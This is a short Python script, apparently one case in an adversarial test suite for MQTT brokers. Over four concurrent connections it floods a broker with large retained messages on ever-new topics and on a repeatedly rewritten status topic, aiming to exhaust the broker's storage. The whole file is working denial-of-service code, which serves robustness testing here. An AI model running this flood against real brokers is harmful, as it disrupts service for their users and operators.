"""Retained messages: as many topics as the broker takes, and its own status again and again."""

import asyncio
import itertools

from attacker import again, attack, counts, swallow
from mqtt_packets import OWN, publish_packet, thief

CONNECTIONS = 4
MESSAGES = 50
PAYLOAD = b"x" * 4000
numbers = itertools.count()


def chunk():
    packets = []
    for _ in range(MESSAGES):
        topic = "%s/%d" % (OWN, next(numbers))
        packets.append(publish_packet(topic, PAYLOAD, qos=1, retain=True))
        packets.append(publish_packet("%s/status" % OWN, PAYLOAD, qos=1, retain=True))
    return b"".join(packets)


async def one():
    connection = await thief()
    if connection is None:
        return
    reader, writer = connection
    reading = asyncio.ensure_future(swallow(reader))
    while not reading.done():
        writer.write(chunk())
        await writer.drain()
        counts["messages"] += 2 * MESSAGES
        await asyncio.sleep(0)
    await reading


attack(*(again(one) for _ in range(CONNECTIONS)))
